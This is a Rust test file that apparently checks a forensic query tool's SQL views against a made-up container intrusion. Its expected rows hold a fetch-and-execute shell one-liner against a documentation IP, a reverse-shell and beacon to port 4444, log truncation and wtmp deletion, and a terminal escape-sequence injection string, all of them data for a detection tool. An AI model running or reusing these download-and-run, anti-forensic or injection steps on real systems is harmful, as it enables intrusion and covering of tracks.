//! Each view on the made-up incident.

mod support;

use support::{incident, rows, wait};
use taffrail_query::VIEWS;
use taffrail_trace::schema::TABLES;

#[test]
fn the_timeline_tells_the_incident_in_order_without_being_asked_to_sort() {
    let (_dir, session) = incident();
    let sql = "SELECT kind, op, pid, summary, result FROM timeline WHERE op <> 'fork' AND coalesce(pid, 0) <> 5015";
    let expected = "\
process | scan | 1 | running /sbin/init | null
process | scan | 800 | running dockerd -H fd:// | null
lifecycle | created | null | container created | null
process | exec | 5000 | exec sh /entrypoint.sh | null
process | exec | 5001 | exec httpd -f -p 8080 | null
network | listen | 5001 | listen tcp [::]:8080 | 0
file | open | 5001 | open /etc/httpd.conf | 0
file | io | 5001 | io /etc/httpd.conf (read 212, wrote 0 bytes) | null
file | open | 5001 | open /etc/httpd.d/extra.conf (no such file) | -2
network | accept | 5001 | accept tcp 203.0.113.9:40112 | 0
process | exec | 5010 | exec sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x' | null
finding | reverse_shell | 5010 | critical: sh runs with 203.0.113.9:40112 as its standard input | null
lifecycle | level | null | container level: full: reverse_shell | null
process | exec | 5011 | exec curl -so /tmp/.part http://198.51.100.7/x | null
network | connect | 5011 | connect tcp 198.51.100.7:80 | 0
file | create | 5011 | create /tmp/.part | 0
file | io | 5011 | io /tmp/.part (read 0, wrote 1482752 bytes) | null
network | close | 5011 | close tcp 198.51.100.7:80 (sent 84, received 1482752 bytes) | 0
process | exit | 5011 | exit 0: curl -so /tmp/.part http://198.51.100.7/x | null
process | exec | 5012 | exec mv /tmp/.part /tmp/.x | null
file | rename | 5012 | rename /tmp/.part -> /tmp/.x | 0
process | exit | 5012 | exit 0: mv /tmp/.part /tmp/.x | null
process | exec | 5013 | exec chmod 755 /tmp/.x | null
file | chmod | 5013 | chmod 755 /tmp/.x | 0
process | exit | 5013 | exit 0: chmod 755 /tmp/.x | null
process | exec | 5014 | exec /tmp/.x | null
kernel | mprotect_wx | 5014 | mprotect PROT_READ|PROT_WRITE|PROT_EXEC, 4096 bytes | 0
network | connect | 5014 | connect udp 172.17.0.1:53 | 0
dns | query | 5014 | query A beacon.example | null
dns | response | 5014 | response A beacon.example: 198.51.100.7 | null
network | close | 5014 | close udp 172.17.0.1:53 (sent 32, received 48 bytes) | 0
network | connect | 5014 | connect tcp 127.0.0.1:4444 (refused) | -111
network | connect | 5014 | connect tcp 198.51.100.7:4444 for beacon.example | 0
file | unlink | 5014 | unlink /tmp/.x | 0
file | open | 5014 | open /etc/passwd (was /etc/motd when the call began) | 0
file | mkdir | 5014 | mkdir /var/tmp/.c | 0
file | symlink | 5014 | symlink /var/tmp/.c/log -> /dev/null | 0
file | chown | 5014 | chown 33 /var/tmp/.c | 0
file | truncate | 5014 | truncate /var/log/httpd.log to 0 bytes | 0
file | setxattr | 5014 | setxattr /var/tmp/.c security.capability (not permitted) | -1
file | unlink | 5014 | unlink /var/log/wtmp | null
network | connect | 5014 | connect unix /var/run/docker.sock (no such file) | -2
network | connect | 5014 | connect tcp [2001:db8::7]:443 (network unreachable) | -101
network | socket | 5014 | socket raw | 0
privilege | setuid | 5014 | setresuid uid 0, effective 0, saved 0 | 0
privilege | unshare | 5014 | unshare CLONE_NEWUSER (not permitted) | -1
kernel | ptrace | 5014 | ptrace PTRACE_ATTACH pid 1 (not permitted) | -1
kernel | mount | 5014 | mount type ext4 /dev/sda1 -> /mnt (not permitted) | -1
gap | ring_full | null | 3 bulk events missing | null
process | exit | 5014 | killed by signal 9: /tmp/.x | null
process | exit | 5010 | exit 137: sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x' | null
network | close | 5001 | close tcp 203.0.113.9:40112 (sent 512, received 301 bytes) | 0
lifecycle | entered | null | container entered: sh (5020) by dockerd (800) | null
process | exec | 5020 | exec sh (from outside) | null
terminal | printed | 5020 | printed \"/ # \" | null
terminal | typed | 5020 | typed \"id\\n\" | null
terminal | printed | 5020 | printed \"uid=0(root) gid=0(root)\\n/ # \" | null
terminal | typed | 5020 | typed \"cat /tmp/note\\n\" | null
terminal | printed | 5020 | printed \"\\e]0;owned\\u{7}\\e[31m\\u{202e}exe.txt\\u{9b}2J\\r\\n…\" | null
process | exit | 5020 | exit 0: sh | null
finding | manual | null | info: asked for by root | null";
    assert_eq!(rows(&session, sql).join("\n"), expected);
}

#[test]
fn the_process_tree_stands_depth_first_with_ancestors_and_ends() {
    let (_dir, session) = incident();
    let sql = "SELECT depth, tree, exit, in_container, path FROM process_tree WHERE origin <> 'fork' AND pid <> 5015";
    let expected = "\
0 | /sbin/init | null | false | init
1 | └ dockerd -H fd:// | null | false | init > dockerd
2 |   └ sh /entrypoint.sh | null | true | init > dockerd > sh
3 |     └ httpd -f -p 8080 | null | true | init > dockerd > sh > httpd
4 |       └ sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x' | 137 | true | init > dockerd > sh > httpd > sh
5 |         └ curl -so /tmp/.part http://198.51.100.7/x | 0 | true | init > dockerd > sh > httpd > sh > curl
5 |         └ mv /tmp/.part /tmp/.x | 0 | true | init > dockerd > sh > httpd > sh > mv
5 |         └ chmod 755 /tmp/.x | 0 | true | init > dockerd > sh > httpd > sh > chmod
5 |         └ /tmp/.x | signal 9 | true | init > dockerd > sh > httpd > sh > .x
2 |   └ sh | 0 | true | init > dockerd > sh";
    assert_eq!(rows(&session, sql).join("\n"), expected);
}

#[test]
fn connections_say_who_talked_to_whom_and_how_it_ended() {
    let (_dir, session) = incident();
    let sql =
        "SELECT direction, local, remote, state, bytes_sent, bytes_received, duration_ms, cmdline FROM connections";
    let expected = "\
null | [::]:8080 | null | listening | null | null | null | httpd -f -p 8080
inbound | 172.17.0.2:8080 | 203.0.113.9:40112 | closed | 512 | 301 | 3200 | httpd -f -p 8080
outbound | 172.17.0.2:51000 | 198.51.100.7:80 | closed | 84 | 1482752 | 450 | curl -so /tmp/.part http://198.51.100.7/x
outbound | 172.17.0.2:40053 | 172.17.0.1:53 | closed | 32 | 48 | 20 | /tmp/.x
outbound | 127.0.0.1:51001 | 127.0.0.1:4444 | refused | 0 | 0 | 1 | /tmp/.x
outbound | 172.17.0.2:51002 | 198.51.100.7:4444 | open | null | null | null | /tmp/.x
outbound | null | /var/run/docker.sock | failed | null | null | null | /tmp/.x
outbound | null | [2001:db8::7]:443 | failed | null | null | null | /tmp/.x
null | null | null | made | null | null | null | /tmp/.x";
    assert_eq!(rows(&session, sql).join("\n"), expected);
}

#[test]
fn file_changes_leave_reads_and_failures_out() {
    let (_dir, session) = incident();
    let expected = "\
create | /tmp/.part | null | null | false | 0
io | /tmp/.part | null | 1482752 | false | null
rename | /tmp/.part | /tmp/.x | null | false | 0
chmod | /tmp/.x | null | null | true | 0
unlink | /tmp/.x | null | null | false | 0
mkdir | /var/tmp/.c | null | null | false | 0
symlink | /var/tmp/.c/log | /dev/null | null | false | 0
chown | /var/tmp/.c | null | null | false | 0
truncate | /var/log/httpd.log | null | null | false | 0
unlink | /var/log/wtmp | null | null | false | null";
    let sql = "SELECT op, path, new_path, bytes_written, made_executable, result FROM file_changes";
    assert_eq!(rows(&session, sql).join("\n"), expected);
}

#[test]
fn coverage_has_a_row_for_each_class_even_where_nothing_is_lost() {
    let (_dir, session) = incident();
    let sql = "SELECT class, coalesce(causes, '-') FROM coverage WHERE class <> 'terminal'";
    assert_eq!(rows(&session, sql), ["vital | -", "bulk | ring_full"]);
}

#[test]
fn every_view_says_what_a_row_is_which_question_it_answers_and_what_each_column_means() {
    let (_dir, session) = incident();
    for view in VIEWS {
        assert!(view.doc().starts_with("One row per "), "{}", view.name);
        assert!(view.question().ends_with('?'), "{}", view.name);
        let batches = wait(session.sql(&format!("SELECT * FROM {} LIMIT 0", view.name))).expect(view.name);
        for field in batches[0].schema().fields() {
            assert_ne!(view.column_doc(field.name()), "", "{}.{}", view.name, field.name());
        }
    }
}

#[test]
fn a_view_hides_no_table() {
    for view in VIEWS {
        assert!(TABLES.iter().all(|table| table.name != view.name), "{}", view.name);
    }
}

#[test]
fn the_old_name_of_a_view_still_answers() {
    let (_dir, session) = incident();
    let (old, new) = ("SELECT * FROM file_writes", "SELECT * FROM file_changes");
    assert_eq!(rows(&session, old), rows(&session, new));
}

#[test]
fn shells_say_who_speaks_to_them() {
    let (_dir, session) = incident();
    let sql = "SELECT shell, way, parent_comm, programs, exit FROM shells";
    let expected =
        ["sh | input | dockerd | 1 | null", "sh | socket | httpd | 4 | 137", "sh | terminal | dockerd | 0 | 0"];
    assert_eq!(rows(&session, sql), expected);
}

#[test]
fn what_was_brought_in_and_run_is_told_with_where_it_came_from() {
    let (_dir, session) = incident();
    let sql = "SELECT file, how, dropped_op, dropped_by FROM dropped_and_run WHERE pid = 5014";
    assert_eq!(rows(&session, sql), ["/tmp/.x | written | rename | mv /tmp/.part /tmp/.x"]);
    let sql = "SELECT path, bytes_written, remote, bytes_received, comm FROM downloads";
    assert_eq!(rows(&session, sql), ["/tmp/.part | 1482752 | 198.51.100.7:80 | 1482752 | curl"]);
}

#[test]
fn what_is_rare_is_what_was_first_seen_and_seldom() {
    let (_dir, session) = incident();
    let sql = "SELECT value, times, bundles FROM rare WHERE kind = 'destination' ORDER BY value";
    let destinations = rows(&session, sql);
    assert!(destinations.contains(&".x -> 198.51.100.7:4444 | 1 | 1".to_owned()), "{destinations:?}");
    let late = "SELECT kind, value FROM first_seen WHERE kind = 'name' AND comm = '.x'";
    assert_eq!(rows(&session, late)[0], "name | beacon.example");
}

#[test]
fn entities_are_what_can_be_looked_for_elsewhere() {
    let (_dir, session) = incident();
    let sql = "SELECT kind, roles FROM entities WHERE value IN ('198.51.100.7', 'beacon.example', '/tmp/.x') ORDER BY kind, roles";
    let expected =
        ["address | answer, connect", "file | chmod, rename, unlink", "name | query, server", "program | run"];
    assert_eq!(rows(&session, sql), expected);
}

#[test]
fn listeners_and_kernel_touches_are_told_with_who_did_it() {
    let (_dir, session) = incident();
    let doors = "SELECT local, reach, accepted, peers, cmdline FROM listeners";
    assert_eq!(rows(&session, doors), ["[::]:8080 | every address | 1 | 1 | httpd -f -p 8080"]);
    let touch = "SELECT op, act, failure FROM kernel_touch WHERE op = 'mount'";
    assert_eq!(rows(&session, touch), ["mount | mount type ext4 /dev/sda1 -> /mnt | not permitted"]);
}

#[test]
fn the_timeline_keeps_who_it_was_and_how_it_ended() {
    let (_dir, session) = incident();
    let failed = "SELECT time, op, comm, exe, result, bundle FROM timeline WHERE result < 0 AND comm = 'httpd'";
    let expected = "2026-03-14T09:00:00.710000000Z | open | httpd | /bin/busybox | -2 | 0badcafe";
    assert_eq!(rows(&session, failed), [expected]);
    let joined = "SELECT p.cmdline FROM timeline t JOIN process p ON p.exec_id = t.exec_id WHERE t.op = 'chown'";
    assert_eq!(rows(&session, joined), ["/tmp/.x"]);
}

#[test]
fn the_order_of_a_view_outlives_a_filter_and_a_limit() {
    let (_dir, session) = incident();
    let times = rows(&session, "SELECT time FROM timeline WHERE kind IN ('process', 'network') LIMIT 20");
    assert_eq!(times.len(), 20);
    assert!(times.is_sorted(), "{times:?}");
    assert_eq!(times[0], "2026-03-14T08:43:20.010000000Z");
}

#[test]
fn a_fork_that_ran_a_program_ended_as_itself() {
    let (_dir, session) = incident();
    assert_eq!(rows(&session, "SELECT DISTINCT exit FROM process_tree WHERE origin = 'fork'"), ["exec"]);
}
